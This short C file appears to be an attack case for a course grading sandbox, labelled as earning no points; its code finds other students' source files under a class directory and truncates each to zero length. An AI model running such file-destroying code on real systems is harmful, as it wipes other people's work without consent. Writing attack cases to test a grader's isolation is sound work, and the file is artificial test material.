/*
 * Attack: empties the sources of other students (CLASS is filled in)
 * Base:   starter
 * Gets:   no points
 */
#include "attack.h"

#include <glob.h>

ATTACK {
    glob_t found;
    if (glob("CLASS/*/02-connected-client/*.c", 0, NULL, &found) == 0) {
        for (size_t i = 0; i < found.gl_pathc; i++) {
            if (truncate(found.gl_pathv[i], 0) < 0) {
                continue;
            }
        }
    }
}
